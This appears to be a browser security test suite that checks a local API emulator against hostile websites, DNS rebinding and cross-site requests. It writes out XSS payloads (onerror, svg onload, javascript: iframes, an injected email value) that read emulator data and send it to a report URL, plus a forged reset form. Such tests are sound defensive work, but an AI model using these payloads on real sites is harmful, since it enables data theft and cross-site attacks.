// A website that the developer visits, in a real browser, against the emulator on the same machine.
import { existsSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { type Emulator, startEmulator } from '@cio/emulator';
import { type Browser, chromium } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { executablePath } from './browser.js';

const SECRET = 'SECRET-3f9a';
const PICTURE =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';

// Skipped where this machine has no Chromium. Never in CI.
describe.skipIf(!existsSync(executablePath) && !process.env.CI)('a website in Chromium', () => {
  let emulator: Emulator;
  let browser: Browser;
  let website: Server;
  let script: string;
  const attackPage = () => `<!doctype html><body><script>${script}</script>`;
  /** What pages told the website. */
  let reports: string[];

  beforeAll(async () => {
    script = await readFile(new URL('../scenario/hostile-website.js', import.meta.url), 'utf8');
    emulator = await startEmulator();
    website = createServer((request, response) => {
      if (request.url?.startsWith('/report')) reports.push(request.url);
      response.setHeader('content-type', 'text/html');
      response.end(attackPage());
    });
    await new Promise<void>((resolve) => website.listen(0, '127.0.0.1', resolve));
    browser = await chromium.launch({
      executablePath,
      args: [
        '--no-sandbox',
        '--disable-gpu',
        '--disable-background-networking',
        '--disable-sync',
        '--disable-popup-blocking',
        // Not every browser asks whether a website may reach this machine: it must not matter.
        '--disable-features=LocalNetworkAccessChecks',
        // Names that an attacker owns, and that resolve to this machine.
        '--host-resolver-rules=MAP evil.example 127.0.0.1, MAP rebound.example 127.0.0.1',
      ],
    });
  }, 60_000);

  beforeEach(() => {
    reports = [];
    emulator.reset();
    fill();
  });

  function fill(): void {
    const { workspace } = emulator;
    workspace.identify(['id', 'ada'], { email: 'ada@example.com', note: SECRET });
    workspace.app.snippets.set(SECRET, { name: SECRET, value: SECRET });
    workspace.app.exports.add({ csv: SECRET, readyAt: 0, links: new Map([['s', Date.now() + 600_000]]) });
    workspace.app.assets.add({
      name: 'picture.png',
      parent_folder_id: null,
      content_type: 'image/png',
      bytes: Buffer.from(PICTURE, 'base64'),
    });
  }

  afterAll(async () => {
    await browser?.close();
    website?.closeAllConnections();
    website?.close();
    await emulator?.close();
  });

  const port = (server: Server) => (server.address() as AddressInfo).port;

  const what = () => {
    const track = `Basic ${Buffer.from(`${emulator.siteId}:${emulator.apiKey}`).toString('base64')}`;
    const app = { authorization: `Bearer ${emulator.appApiKey}` };
    return {
      secret: SECRET,
      paths: [
        '/_emulator',
        '/_emulator/people',
        '/_emulator/requests',
        '/v1/customers/ada/attributes',
        '/_downloads/exports/1.csv?signature=s',
        '/waits',
      ],
      image: '/_downloads/assets/1',
      writes: [
        ['POST', '/_emulator/reset', '{}', {}],
        ['POST', '/_emulator/faults', '{"kind":"html","times":9}', {}],
        ['POST', '/api/v1/customers/eve/events', '{"name":"x"}', { authorization: track }],
        ['POST', '/waits', '{"a":1}', {}],
        ['POST', '/_emulator/webhooks', '{"metric":"x"}', {}],
        ['PUT', '/api/v1/customers/eve', '{"plan":"gold"}', { authorization: track }],
        ['POST', '/api/v1/metrics', '{"delivery_id":"d","metric":"opened","timestamp":1}', {}],
        ['POST', '/api/v1/push/events', '{"delivery_id":"d","event":"opened"}', {}],
        ['POST', '/unsubscribe/delivery', '{"unsubscribe":true}', {}],
        ['POST', '/v1/snippets', '{"name":"eve","value":"x"}', app],
        ['POST', '/v1/assets/files', '{"name":"eve"}', app],
      ],
    };
  };

  const state = () => {
    const { people, events, metrics, unsubscribes, activities, app, dropped } = emulator.workspace;
    return JSON.stringify({
      people: [...people.values()],
      events: events.size,
      metrics,
      unsubscribes,
      activities: activities.size,
      dropped,
      snippets: [...app.snippets],
      messages: app.messages.size,
      assets: app.assets.size,
      downloads: app.exports.all().map(({ downloads }) => downloads),
      requests: emulator.requests.length,
    });
  };

  /** Opens the website's page under that origin, and gives the attack, which tells what it learned. */
  async function openWebsite(origin: string) {
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(`${origin}/`);
    return {
      attack: async (targets: string[]) => {
        const calls = targets.map((target) => `attack(${JSON.stringify(target)}, ${JSON.stringify(what())})`);
        return page.evaluate(`Promise.all([${calls}]).then((learned) => learned.flat())`) as Promise<
          string[]
        >;
      },
      close: () => context.close(),
    };
  }

  async function attackFrom(origin: string, targets: string[]): Promise<string[]> {
    const { attack, close } = await openWebsite(origin);
    return attack(targets).finally(close);
  }

  test('the attack works where nobody defends: on a server that takes everything', async () => {
    const seen: string[] = [];
    const open = createServer((request, response) => {
      const { method, headers } = request;
      seen.push(`${method} ${headers['content-type']?.split(';')[0] ?? '-'}`);
      request.resume();
      response.setHeader('access-control-allow-origin', headers.origin ?? '*');
      response.setHeader('access-control-allow-credentials', 'true');
      response.setHeader('access-control-allow-headers', 'authorization, content-type');
      response.setHeader('access-control-allow-methods', 'GET, PUT, POST, DELETE, PATCH');
      const isPicture = request.url?.startsWith('/_downloads/assets');
      if (request.url === '/') {
        response.setHeader('content-type', 'text/html');
        response.end(attackPage());
        return;
      }
      if (headers.accept === 'text/event-stream') response.setHeader('content-type', 'text/event-stream');
      else if (request.url === '/_emulator/requests') response.setHeader('content-type', 'text/javascript');
      else if (request.url === '/_emulator/people') response.setHeader('content-type', 'text/css');
      response.end(isPicture ? Buffer.from(PICTURE, 'base64') : `/* ${SECRET} */`);
    });
    open.on('upgrade', (request, socket) => {
      seen.push(`${request.headers.upgrade}`);
      socket.destroy();
    });
    await new Promise<void>((resolve) => open.listen(0, '127.0.0.1', resolve));
    const origin = `http://rebound.example:${port(open)}`;
    const learned = [
      ...(await attackFrom(`http://evil.example:${port(website)}`, [`http://127.0.0.1:${port(open)}`])),
      ...(await attackFrom(origin, [origin])),
    ];
    open.closeAllConnections();
    open.close();
    const ways = new Set(learned.map((way) => way.replace(/ http:.*/, '')));
    for (const way of ['fetch cors', 'xhr', 'EventSource', 'script', 'import', 'stylesheet', 'img']) {
      expect(ways).toContain(way);
    }
    // Of one's own origin, which a rebound name is, even these are read.
    for (const way of [
      'iframe',
      'window.open',
      'fetch same-origin',
      'fetch PUT json',
      'fetch DELETE json',
      'xhr POST',
    ]) {
      expect(ways).toContain(way);
    }
    for (const request of [
      'GET -',
      'OPTIONS -',
      'PUT application/json',
      'DELETE application/json',
      'PATCH application/json',
      'POST application/json',
      'POST text/plain',
      'POST application/x-www-form-urlencoded',
      'POST multipart/form-data',
      'POST -',
      'websocket',
    ]) {
      expect(seen).toContain(request);
    }
  }, 240_000);

  /** Names under which a browser reaches this machine; the emulator's own tests have more. */
  const NAMES = ['127.0.0.1', 'localhost', 'rebound.example'];

  /** Nothing is learned of the emulator that is attacked, and nothing of it is changed. */
  async function expectUntouched(
    attack: (targets: string[]) => Promise<string[]>,
    names: string[],
  ): Promise<void> {
    emulator.faults.add({ kind: 'status', status: 200, path: '/waits', body: SECRET });
    const before = state();
    const { port } = new URL(emulator.url);
    expect(await attack(names.map((name) => `http://${name}:${port}`))).toEqual([]);
    expect(state()).toBe(before);
    // Nobody was served by the fault either.
    expect(emulator.faults.take('GET', '/waits')).toMatchObject({ status: 200 });
  }

  test.each([
    ['another website', 'evil.example', NAMES],
    ['another program on this machine', 'localhost', ['127.0.0.1']],
    ['the same address with another port', '127.0.0.1', ['127.0.0.1']],
  ])(
    '%s reads nothing and changes nothing',
    async (_, host, names) => {
      await expectUntouched((targets) => attackFrom(`http://${host}:${port(website)}`, targets), names);
    },
    120_000,
  );

  test('nor does one whose name points at the emulator once its page is open', async () => {
    const first = createServer((_, response) => {
      response.setHeader('content-type', 'text/html');
      response.end(attackPage());
    });
    await new Promise<void>((resolve) => first.listen(0, '127.0.0.1', resolve));
    const own = port(first);
    const { attack, close } = await openWebsite(`http://rebound.example:${own}`);
    first.closeAllConnections();
    await new Promise((resolve) => first.close(resolve));
    const others = emulator;
    emulator = await startEmulator({ port: own });
    fill();
    try {
      await expectUntouched(attack, ['rebound.example']);
    } finally {
      await close();
      await emulator.close();
      emulator = others;
    }
  }, 240_000);

  /** Every way that a page has to run a script, each of which would tell the website what the emulator knows. */
  const tell = (way: string) =>
    `fetch('/_emulator/people').then((r) => r.text(), () => '').then((t) => { new Image().src = '//127.0.0.1:REPORT/report-${way}?' + encodeURIComponent(t) })`;
  const SCRIPTS = `<!doctype html><title>page</title><body>
    <script>${tell('script')}</script>
    <img src="x:" onerror="${tell('onerror')}">
    <svg onload="${tell('svg')}"></svg>
    <iframe srcdoc="&lt;script&gt;${tell('srcdoc')}&lt;/script&gt;"></iframe>
    <iframe src="javascript:${tell('javascript')}"></iframe>
    <form id="form" action="/_emulator/reset" method="post"></form><script>form.submit()</script>`;
  const scripts = () => SCRIPTS.replaceAll('REPORT', String(port(website)));

  test('scripts run where nobody forbids them', async () => {
    const own = createServer((_, response) => {
      response.setHeader('content-type', 'text/html');
      response.end(scripts().replace('form.submit()', ''));
    });
    await new Promise<void>((resolve) => own.listen(0, '127.0.0.1', resolve));
    const page = await browser.newPage();
    await page.goto(`http://127.0.0.1:${port(own)}/`);
    await expect
      .poll(() => new Set(reports.map((report) => /^\/report-(\w+)/.exec(report)?.[1])))
      .toEqual(new Set(['script', 'onerror', 'svg', 'srcdoc', 'javascript']));
    await page.close();
    own.closeAllConnections();
    own.close();
  });

  test('what a fault, a download or an asset answers runs none, opened by hand', async () => {
    const { assets, exports } = emulator.workspace.app;
    const html = { 'content-type': 'text/html' };
    const openPolicy = { ...html, 'Content-Security-Policy': 'sandbox allow-scripts allow-same-origin' };
    emulator.faults.add({ kind: 'status', status: 200, path: '/pwn-1', headers: html, body: scripts() });
    emulator.faults.add({
      kind: 'status',
      status: 200,
      path: '/pwn-2',
      headers: openPolicy,
      body: scripts(),
    });
    const asset = assets.add({
      name: 'a.png',
      parent_folder_id: null,
      content_type: 'text/html',
      bytes: Buffer.from(scripts()),
    });
    const picture = assets.add({
      name: 'b.png',
      parent_folder_id: null,
      content_type: 'image/png',
      bytes: Buffer.from(scripts()),
    });
    const row = exports.add({ csv: scripts(), readyAt: 0, links: new Map([['s', Date.now() + 600_000]]) });
    const page = await browser.newPage();
    for (const path of [
      '/pwn-1',
      '/pwn-2',
      `/_downloads/assets/${asset.id}`,
      `/_downloads/assets/${picture.id}`,
      `/_downloads/exports/${row.id}.csv?signature=s`,
    ]) {
      // A file is downloaded, and no page.
      const response = await page.goto(emulator.url + path).catch(() => null);
      if (response) expect(response.status()).toBe(200);
      await page.waitForTimeout(300);
    }
    await page.close();
    expect(reports).toEqual([]);
    expect(emulator.workspace.people.size).toBe(1);
  }, 60_000);

  test("the emulator's page shows what people are called, and runs none of it", async () => {
    const track = emulator.workspace;
    track.identify(['id', scripts()], { [scripts()]: scripts() });
    track.identify([
      'email',
      `"><script>${tell('email')}</script>@x.io`.replaceAll('REPORT', String(port(website))),
    ]);
    const page = await browser.newPage();
    const refused: string[] = [];
    page.on('console', (message) => refused.push(message.text()));
    const response = await page.goto(`${emulator.url}/_emulator`);
    expect(response?.status()).toBe(200);
    await page.goto(`${emulator.url}/_emulator#/people`);
    await page.getByText('<svg onload=').first().waitFor();
    // Its own style is let in.
    expect(await page.evaluate('getComputedStyle(document.body).fontFamily')).toContain('system-ui');
    expect(refused).toEqual([]);
    await page.close();
    expect(reports).toEqual([]);
  }, 60_000);

  test('a page of an allowed origin reads and writes', async () => {
    const origin = `http://localhost:${port(website)}`;
    await using own = await startEmulator({ allowedOrigins: [origin] });
    const page = await browser.newPage();
    await page.goto(`${origin}/`);
    const put = `fetch('${own.url}/api/v1/customers/ada', {
      method: 'PUT',
      headers: { 'content-type': 'application/json', authorization: 'Basic ' + btoa('emulator-site:emulator-key') },
      body: '{"plan":"gold"}',
    }).then((response) => response.status)`;
    expect(await page.evaluate(put)).toBe(200);
    expect(own.workspace.find('ada')?.attributes).toEqual({ plan: 'gold' });
    const people = `fetch('${own.url}/_emulator/people').then((response) => response.json())`;
    expect(await page.evaluate(people)).toMatchObject({ items: [{ id: 'ada' }] });
    await page.close();
  });
});
